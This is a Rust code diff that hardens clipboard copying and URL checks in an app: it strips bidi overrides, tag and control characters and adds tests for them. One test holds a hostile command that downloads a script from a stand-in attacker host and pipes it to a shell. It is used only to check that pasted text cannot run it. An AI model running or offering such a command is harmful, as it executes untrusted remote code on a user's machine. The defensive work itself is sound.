@@ -56,12 +56,41 @@ pub fn target_story(state: &State) -> Option<usize> {
     }
 }
 
-/// Story text for the clipboard: as written, less the control characters a
-/// terminal would act on when it is pasted (line breaks and tabs stay).
-fn clean(text: &str) -> String {
-    text.chars()
-        .filter(|&c| !c.is_control() || c == '\n' || c == '\t')
-        .collect()
+/// Story text for the clipboard: what the screen showed. Left out: the control
+/// characters a terminal would act on when it is pasted, bidi embeddings,
+/// overrides and isolates, and tag characters (ZWJ/ZWNJ, LRM/RLM and
+/// variation selectors stay). Line breaks stay only where the text has
+/// paragraphs (a blank line); in one-line text a break becomes a space.
+/// Returns the text and whether anything was left out.
+pub fn clean(text: &str) -> (String, bool) {
+    let paragraphs = text.contains("\n\n");
+    let mut left_out = false;
+    let out = text
+        .chars()
+        .filter_map(|c| match c {
+            '\n' if paragraphs => Some('\n'),
+            '\n' => Some(' '),
+            '\t' => Some('\t'),
+            c if c.is_control() || hidden(c) => {
+                left_out = true;
+                None
+            }
+            c => Some(c),
+        })
+        .collect();
+    (out, left_out)
+}
+
+/// Bidi embeddings, overrides and isolates, and tag characters.
+fn hidden(c: char) -> bool {
+    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{E0000}'..='\u{E007F}')
+}
+
+/// Characters a URL may not hold unseen: zero-width and bidi marks, word
+/// joiners, the byte-order mark, soft hyphens and tags.
+fn invisible(c: char) -> bool {
+    hidden(c)
+        || matches!(c, '\u{00AD}' | '\u{200B}'..='\u{200F}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}')
 }
 
 fn date_text(d: &Option<PartialDate>) -> Option<String> {
@@ -73,6 +102,12 @@ fn date_text(d: &Option<PartialDate>) -> Option<String> {
 /// quote in quotation marks, reported speech never), then a line for each thing
 /// the detail shows about it (context, source, note, status, stances...).
 pub fn copy_text(story: &Story, pane: Pane, index: usize) -> Option<String> {
+    copy_cleaned(story, pane, index).map(|(t, _)| t)
+}
+
+/// [`copy_text`] and whether anything was left out of it: each line cleaned
+/// on its own (a line break inside a one-line field becomes a space).
+fn copy_cleaned(story: &Story, pane: Pane, index: usize) -> Option<(String, bool)> {
     use crate::export::plain;
     let lines = match pane {
         Pane::Quotes => plain::quote(story, story.quotes.get(index)?),
@@ -82,17 +117,29 @@ pub fn copy_text(story: &Story, pane: Pane, index: usize) -> Option<String> {
         Pane::Claims => plain::claim(story, story.claims.get(index)?),
         Pane::Sources => plain::source(story, story.sources.get(index)?),
     };
-    let text: Vec<&str> = lines.iter().map(|l| l.trim_end()).collect();
-    Some(cap(clean(&text.join("\n"))))
+    let mut left_out = false;
+    let text: Vec<String> = lines
+        .iter()
+        .map(|l| {
+            let (t, out) = clean(l.trim_end());
+            left_out |= out;
+            t
+        })
+        .collect();
+    Some((cap(text.join("\n")), left_out))
 }
 
 /// The story itself, for the library: `Title (date)`.
 pub fn story_copy_text(story: &Story) -> String {
-    let text = match date_text(&story.date) {
+    cap(clean(&story_title_text(story)).0)
+}
+
+/// `Title (date)` as written.
+fn story_title_text(story: &Story) -> String {
+    match date_text(&story.date) {
         Some(d) => format!("{} ({d})", story.title.trim()),
         None => story.title.trim().to_string(),
-    };
-    cap(clean(&text))
+    }
 }
 
 /// At most [`COPY_LIMIT`] bytes, cut at a character boundary.
@@ -157,24 +204,34 @@ pub fn copy(state: &mut State) -> Option<Effect> {
                     pane.title()
                 ))
             } else {
-                copy_text(story, pane, i)
-                    .map(|t| (t, what(story, pane, i)))
+                copy_cleaned(story, pane, i)
+                    .map(|(t, left_out)| (t, left_out, what(story, pane, i)))
                     .ok_or_else(|| "Nothing to copy here".to_string())
             }
         }),
         Screen::Library => target_story(state).and_then(|s| {
             let story = state.corpus.stories.get(s)?;
+            let (text, left_out) = clean(&story_title_text(story));
             Some(Ok((
-                story_copy_text(story),
+                cap(text),
+                left_out,
                 format!("the title of “{}”", label(&story.title, 40)),
             )))
         }),
         _ => None,
     };
     match found {
-        Some(Ok((text, what))) => {
+        Some(Ok((text, left_out, what))) => {
             let n = text.chars().count();
-            state.chrome.message = Some(format!("Copied {what} ({}) to the clipboard", chars(n)));
+            let note = if left_out {
+                "; hidden bidi, tag or control characters left out"
+            } else {
+                ""
+            };
+            state.chrome.message = Some(format!(
+                "Copied {what} ({}) to the clipboard{note}",
+                chars(n)
+            ));
             return Some(Effect::Copy(text));
         }
         Some(Err(m)) => state.chrome.message = Some(m),
@@ -193,7 +250,9 @@ pub fn allowed_url(url: &str) -> bool {
     (lower.starts_with("http://") || lower.starts_with("https://"))
         && url.len() > "https://".len()
         && url.len() <= 8192
-        && !url.chars().any(|c| c.is_whitespace() || c.is_control())
+        && !url
+            .chars()
+            .any(|c| c.is_whitespace() || c.is_control() || invisible(c))
 }
 
 /// The URL `o` opens for an item: a source's own, else its source's.
@@ -415,4 +474,39 @@ pub fn reloaded_message(state: &State, open_before: Option<String>) -> String {
         ));
     }
     m
+}
+
+#[cfg(test)]
+mod hostile_copy_tests {
+    use super::*;
+
+    #[test]
+    fn the_copy_leaves_out_bidi_and_tags_and_keeps_what_text_needs() {
+        let (t, out) = clean("a\u{202E}b\u{2066}c\u{2069}\u{E0041}d");
+        assert_eq!(t, "abcd");
+        assert!(out);
+        let kept = "می\u{200C}خواهم 👨\u{200D}👩 \u{200E}x\u{200F} ☺\u{FE0F}";
+        assert_eq!(clean(kept), (kept.to_string(), false));
+    }
+
+    #[test]
+    fn line_breaks_stay_only_in_paragraphs() {
+        assert_eq!(
+            clean("Union\ncurl https://evil.example/x.sh | sh").0,
+            "Union curl https://evil.example/x.sh | sh"
+        );
+        assert_eq!(clean("One.\n\nTwo.\nThree.").0, "One.\n\nTwo.\nThree.");
+    }
+
+    #[test]
+    fn a_url_with_invisible_characters_is_refused() {
+        assert!(allowed_url("https://example.org/a"));
+        for bad in [
+            "https://exa\u{200B}mple.org",
+            "https://example.org/\u{202E}gpj",
+            "https://e.org/\u{E0041}",
+        ] {
+            assert!(!allowed_url(bad), "{bad:?}");
+        }
+    }
 }
